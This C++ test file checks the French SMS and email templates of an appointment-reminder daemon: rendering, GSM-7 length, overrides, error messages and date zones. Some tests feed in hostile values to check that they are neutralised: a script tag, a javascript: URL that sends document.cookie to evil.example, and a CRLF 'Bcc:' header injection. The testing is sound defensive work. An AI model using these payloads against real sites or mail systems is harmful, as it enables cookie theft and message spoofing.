// Message templates: the default French templates, escaping rules, overrides and load errors.
#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <random>
#include <thread>

#include "daemon/base/config_node.hpp"
#include "daemon/content/template_variables.hpp"
#include "daemon/content/templates.hpp"

namespace fs = std::filesystem;
using nlohmann::json;
using rappel::ConfigError;
using rappel::TemplateSet;

namespace {

const fs::path kDefaults = fs::path(RAPPEL_SOURCE_DIR) / "templates";
const std::vector<std::string> kEvents = {"new_creneau_available", "rdv_cancelled", "rdv_created",
                                          "rdv_upcoming_reminder", "rdv_updated"};

// A scratch directory removed at the end of the test.
struct ScratchDir {
  fs::path path;
  ScratchDir() {
    std::random_device random;
    path = fs::temp_directory_path() / ("rappel-templates-" + std::to_string(random()));
    fs::create_directories(path);
  }
  ~ScratchDir() { fs::remove_all(path); }
  void write(const std::string& relative, const std::string& content) const {
    fs::create_directories((path / relative).parent_path());
    std::ofstream(path / relative, std::ios::binary) << content;
  }
};

// GSM 03.38 septets of a UTF-8 text, or -1 if a character is outside GSM-7. Kept here, small and
// independent, so that these tests check the templates without relying on the code under test.
int gsm7_septets(const std::string& utf8) {
  static const std::string basic =
      "@£$¥èéùìòÇ\nØø\rÅåΔ_ΦΓΛΩΠΨΣΘΞÆæßÉ "
      "!\"#¤%&'()*+,-./0123456789:;<=>?¡ABCDEFGHIJKLMNOPQRSTUVWXYZ"
      "ÄÖÑÜ§¿abcdefghijklmnopqrstuvwxyzäöñüà";
  static const std::string extension = "^{}\\[~]|€";
  int septets = 0;
  for (std::size_t i = 0; i < utf8.size();) {
    std::size_t length = 1;
    const auto lead = static_cast<unsigned char>(utf8[i]);
    if (lead >= 0xF0)
      length = 4;
    else if (lead >= 0xE0)
      length = 3;
    else if (lead >= 0xC0)
      length = 2;
    const std::string character = utf8.substr(i, length);
    if (extension.find(character) != std::string::npos)
      septets += 2;
    else if (basic.find(character) != std::string::npos)
      septets += 1;
    else
      return -1;
    i += length;
  }
  return septets;
}

int gsm7_segments(const std::string& utf8) {
  const int septets = gsm7_septets(utf8);
  if (septets < 0) return -1;
  return septets <= 160 ? 1 : (septets + 152) / 153;
}

json sample_vars() {
  return rappel::template_variables(rappel::sample_template_data(), json::object(), "Europe/Paris",
                                    "Seine-et-Marne");
}

json vars_with(const std::string& key, const std::string& value) {
  json vars = sample_vars();
  vars[key] = value;
  return vars;
}

}  // namespace

TEST_CASE("the default templates load and cover every event", "[templates]") {
  const auto templates = TemplateSet::load(kDefaults);
  CHECK(templates->events() == kEvents);
  CHECK(templates->has_short_sms("rdv_upcoming_reminder"));
  CHECK_FALSE(templates->has_short_sms("rdv_cancelled"));
  CHECK_FALSE(templates->has_event("rdv_forgotten"));
  CHECK_THROWS_AS(templates->render_sms("rdv_forgotten", sample_vars()), std::out_of_range);
}

TEST_CASE("the reminder reads as RDV-Solidarités writes it", "[templates]") {
  const auto templates = TemplateSet::load(kDefaults);
  CHECK(templates->render_sms("rdv_upcoming_reminder", sample_vars()) ==
        "Rappel RDV PMI le jeudi 3/12 à 10h30 : Maison départementale des solidarités, 12 rue de "
        "la Paix, 77000 Melun. Infos et annulation : https://www.rdv-solidarites.fr/r/4521/abc ou "
        "au 01 64 00 00 00.");
  CHECK(templates->render_subject("rdv_upcoming_reminder", sample_vars()) ==
        "Rappel : RDV PMI le jeudi 3/12 à 10h30");
  json phone = sample_vars();
  phone.erase("place");
  phone = rappel::template_variables(phone, json::object(), "Europe/Paris", "Seine-et-Marne");
  CHECK(templates->render_sms("rdv_upcoming_reminder", phone) ==
        "Rappel RDV PMI le jeudi 3/12 à 10h30 : RDV téléphonique. Infos et annulation : "
        "https://www.rdv-solidarites.fr/r/4521/abc ou au 01 64 00 00 00.");
}

TEST_CASE("every event renders completely with the sample data", "[templates]") {
  const auto templates = TemplateSet::load(kDefaults);
  const json vars = sample_vars();
  for (const auto& event : kEvents) {
    INFO(event);
    const auto sms = templates->render_sms(event, vars);
    const auto subject = templates->render_subject(event, vars);
    const auto text = templates->render_text(event, vars);
    const auto html = templates->render_html(event, vars);
    for (const auto* rendered : {&sms, &subject, &text, &html}) {
      CHECK(rendered->find("{{") == std::string::npos);
      CHECK(rendered->find("}}") == std::string::npos);
    }
    CHECK(sms.find("https://www.rdv-solidarites.fr/r/4521/abc") != std::string::npos);
    CHECK(sms.back() != '\n');
    CHECK(gsm7_segments(sms) >= 1);  // only GSM-7 characters
    CHECK(gsm7_segments(sms) <= 2);
    CHECK(gsm7_segments(templates->render_sms(event, vars, true)) <= 2);
    CHECK_FALSE(subject.empty());
    CHECK(text.find("Bonjour Camille Martin,") == 0);
    CHECK(text.find("Seine-et-Marne") != std::string::npos);
    CHECK(html.find("<html lang=\"fr\">") != std::string::npos);
    CHECK(html.find("href=\"https://www.rdv-solidarites.fr/r/4521/abc\"") != std::string::npos);
    CHECK(html.find("http", html.find("<head>")) >= html.find("<body"));  // no external resource
  }
}

TEST_CASE("optional fields leave no gap when absent", "[templates]") {
  const auto templates = TemplateSet::load(kDefaults);
  const json bare = rappel::template_variables(
      {{"starts_at", "2026-12-03T10:30:00+01:00"}, {"service", "PMI"}, {"url", "https://x.fr/r/1"}},
      json::object(), "Europe/Paris", "");
  CHECK(templates->render_sms("rdv_upcoming_reminder", bare) ==
        "Rappel RDV PMI le jeudi 3/12 à 10h30 : RDV téléphonique. Infos et annulation : "
        "https://x.fr/r/1.");
  for (const auto& event : kEvents) {
    INFO(event);
    const auto text = templates->render_text(event, bare);
    CHECK(text.starts_with("Bonjour,\n\n"));
    CHECK(text.find("\n\n\n") == std::string::npos);
    CHECK(text.find("appeler le") == std::string::npos);
    CHECK(text.find("\n-- \nCe message") != std::string::npos);
    CHECK(templates->render_html(event, bare).find("tel:") == std::string::npos);
    CHECK(templates->render_text(event, sample_vars()).find("\n\n\n") == std::string::npos);
  }
  CHECK(
      templates->render_text("rdv_created", bare).find("RDV téléphonique : vous serez appelé(e)") !=
      std::string::npos);
}

TEST_CASE("the short SMS drops the place when a long place would need 3 SMS", "[templates]") {
  const auto templates = TemplateSet::load(kDefaults);
  const json vars = vars_with("place",
                              "Maison départementale des solidarités de Melun Val de Seine, centre "
                              "social Almont, 14 avenue du Général Leclerc, bâtiment B, 2e étage, "
                              "77000 Melun");
  for (const char* event : {"rdv_created", "rdv_updated", "rdv_upcoming_reminder"}) {
    INFO(event);
    CHECK(gsm7_segments(templates->render_sms(event, vars)) != 1);
    const auto short_sms = templates->render_sms(event, vars, true);
    CHECK(short_sms.find("Melun") == std::string::npos);
    CHECK(short_sms.find("Lieu, infos et annulation") != std::string::npos);
    CHECK(gsm7_segments(short_sms) == 1);
  }
}

TEST_CASE("SMS, subject and text are not HTML-escaped", "[templates]") {
  const auto templates = TemplateSet::load(kDefaults);
  json vars = vars_with("place", "Centre d'accueil & d'orientation <Melun>");
  vars["service"] = "Insertion & emploi";
  const auto sms = templates->render_sms("rdv_created", vars);
  CHECK(sms.find("Centre d'accueil & d'orientation <Melun>") != std::string::npos);
  CHECK(sms.find("&amp;") == std::string::npos);
  CHECK(templates->render_subject("rdv_created", vars).find("Insertion & emploi") !=
        std::string::npos);
  CHECK(templates->render_text("rdv_created", vars).find("Centre d'accueil & d'orientation") !=
        std::string::npos);
}

TEST_CASE("the HTML body escapes what the data carries", "[templates]") {
  const auto templates = TemplateSet::load(kDefaults);
  json vars = vars_with("name", "<script>alert('x')</script>");
  vars["place"] = "Centre d'accueil & d'orientation";
  const auto html = templates->render_html("rdv_created", vars);
  CHECK(html.find("<script>") == std::string::npos);
  CHECK(html.find("&lt;script&gt;alert(&apos;x&apos;)&lt;/script&gt;") != std::string::npos);
  CHECK(html.find("Centre d&apos;accueil &amp; d&apos;orientation") != std::string::npos);
}

TEST_CASE("a javascript: URL in the data does not become a link", "[templates][links]") {
  // Found from outside: data.url = "javascript:…" landed in both of the email's hrefs.
  const auto templates = TemplateSet::load(kDefaults);
  for (const auto& event : kEvents) {
    INFO(event);
    json vars = vars_with("url", "javascript:fetch('//evil.example/'+document.cookie)");
    const auto html = templates->render_html(event, vars);
    CHECK(html.find("href=\"javascript") == std::string::npos);
    CHECK(html.find("javascript:fetch(&apos;//evil.example/&apos;+document.cookie)") !=
          std::string::npos);  // shown as text
    vars = vars_with("url", "https://www.rdv-solidarites.fr/r/4521");
    CHECK(templates->render_html(event, vars)
              .find("href=\"https://www.rdv-solidarites.fr/r/4521\"") != std::string::npos);
  }
}

TEST_CASE("a subject never carries CR/LF, whatever the data", "[templates]") {
  const auto templates = TemplateSet::load(kDefaults);
  const auto subject =
      templates->render_subject("rdv_cancelled", vars_with("service", "PMI\r\nBcc: x@example.fr"));
  CHECK(subject.find('\r') == std::string::npos);
  CHECK(subject.find('\n') == std::string::npos);
  CHECK(subject == "Votre RDV PMI Bcc: x@example.fr du jeudi 3/12 à 10h30 a été annulé");
  CHECK(templates->render_subject("rdv_cancelled", vars_with("service", "\t PMI\xC2\x85\x7f ")) ==
        "Votre RDV PMI du jeudi 3/12 à 10h30 a été annulé");
}

TEST_CASE("an override directory replaces one file and nothing else", "[templates]") {
  ScratchDir overrides;
  overrides.write("rdv_created/sms.mustache",
                  "Seine-et-Marne : RDV {{service}} le {{date_short}}\n");
  const auto defaults = TemplateSet::load(kDefaults);
  const auto templates = TemplateSet::load(kDefaults, overrides.path);
  const json vars = sample_vars();
  CHECK(templates->render_sms("rdv_created", vars) ==
        "Seine-et-Marne : RDV PMI le jeudi 3/12 à 10h30");
  CHECK(templates->render_subject("rdv_created", vars) ==
        defaults->render_subject("rdv_created", vars));
  CHECK(templates->render_sms("rdv_created", vars, true) ==
        defaults->render_sms("rdv_created", vars, true));
  CHECK(templates->render_sms("rdv_cancelled", vars) ==
        defaults->render_sms("rdv_cancelled", vars));
}

TEST_CASE("a syntax error names file, line and column", "[templates]") {
  ScratchDir overrides;
  const auto file = (overrides.path / "rdv_created" / "sms.mustache").string();
  const auto error_for = [&](const std::string& content) {
    overrides.write("rdv_created/sms.mustache", content);
    try {
      TemplateSet::load(kDefaults, overrides.path);
    } catch (const ConfigError& e) {
      return std::string(e.what());
    }
    return std::string("no error");
  };
  // Columns count characters: "à" is one.
  CHECK(error_for("Rappel RDV\nà {{date_short}} : {{#place}}{{place}}.\n") ==
        file + ":2:20: unclosed section \"place\"");
  CHECK(error_for("RDV {{service} le {{date_short}\n").starts_with(file + ":1:5: "));
  CHECK(error_for("RDV {{/place}}\n") == file + ":1:5: unopened section \"place\"");
}

TEST_CASE("a missing required template is an error naming the file", "[templates]") {
  ScratchDir base;
  base.write("rdv_created/sms.mustache", "RDV {{service}}");
  base.write("rdv_created/email_subject.mustache", "RDV {{service}}");
  base.write("rdv_created/email_text.mustache", "RDV {{service}}");
  CHECK_THROWS_WITH(TemplateSet::load(base.path),
                    Catch::Contains((base.path / "rdv_created" / "email_html.mustache").string()));
  base.write("rdv_created/email_html.mustache", "<p>RDV {{service}}</p>");
  CHECK(TemplateSet::load(base.path)->events() == std::vector<std::string>{"rdv_created"});
  // A misspelt file would silently do nothing: it is an error too.
  base.write("rdv_created/email_subjet.mustache", "RDV");
  CHECK_THROWS_WITH(TemplateSet::load(base.path), Catch::Contains("email_subjet.mustache"));
  CHECK_THROWS_AS(TemplateSet::load(base.path / "nowhere"), ConfigError);
}

TEST_CASE("template variables: data, recipient, département and dates in its zone", "[templates]") {
  const json data = {{"starts_at", "2026-03-29T08:00:00Z"},
                     {"service", "PMI"},
                     {"place", "MDS de Melun"},
                     {"name", "ignored"}};
  const auto vars = rappel::template_variables(data, {{"name", "Camille Martin"}}, "Europe/Paris",
                                               "Seine-et-Marne");
  CHECK(vars["service"] == "PMI");
  CHECK(vars["name"] == "Camille Martin");
  CHECK(vars["department_name"] == "Seine-et-Marne");
  CHECK(vars["date_short"] == "dimanche 29/03 à 10h");  // first day of summer time
  CHECK(vars["phone_appointment"] == false);
  const auto day_before = rappel::template_variables(
      {{"starts_at", "2026-03-28T08:00:00Z"}}, json::object(), "Europe/Paris", "Seine-et-Marne");
  CHECK(day_before["date_short"] == "samedi 28/03 à 9h");
  CHECK(day_before["phone_appointment"] == true);  // no place
  const auto reunion =
      rappel::template_variables({{"starts_at", "2026-03-29T08:00:00Z"}, {"place", " "}},
                                 json::object(), "Indian/Reunion", "La Réunion");
  CHECK(reunion["date_long"] == "dimanche 29 mars 2026 à 12h");
  CHECK(reunion["phone_appointment"] == true);  // blank place
  const auto invalid = rappel::template_variables({{"starts_at", "bientôt"}, {"place", "MDS"}},
                                                  json::object(), "Europe/Paris", "Seine-et-Marne");
  CHECK_FALSE(invalid.contains("date_short"));
  CHECK(rappel::template_variables({{"place", "MDS"}, {"phone_appointment", true}}, json::object(),
                                   "Europe/Paris", "")["phone_appointment"] == true);
}

TEST_CASE("data never becomes template code", "[templates]") {
  ScratchDir base;
  base.write("rdv_created/sms.mustache", "RDV {{service}} {{> place}}{{{place}}}");
  base.write("rdv_created/email_subject.mustache", "RDV");
  base.write("rdv_created/email_text.mustache", "RDV");
  base.write("rdv_created/email_html.mustache", "RDV");
  const auto templates = TemplateSet::load(base.path);
  CHECK(templates->render_sms("rdv_created", {{"service", "PMI"}, {"place", "{{service}}"}}) ==
        "RDV PMI {{service}}");
}

TEST_CASE("a shared TemplateSet renders concurrently", "[templates]") {
  const std::shared_ptr<const TemplateSet> templates = TemplateSet::load(kDefaults);
  const json vars = sample_vars();
  const auto expected = templates->render_html("rdv_upcoming_reminder", vars);
  std::vector<std::thread> threads;
  std::vector<int> mismatches(4, 0);
  for (int t = 0; t < 4; ++t)
    threads.emplace_back([&, t] {
      for (int i = 0; i < 100; ++i)
        mismatches[t] += templates->render_html("rdv_upcoming_reminder", vars) != expected;
    });
  for (auto& thread : threads) thread.join();
  CHECK(mismatches == std::vector<int>(4, 0));
}
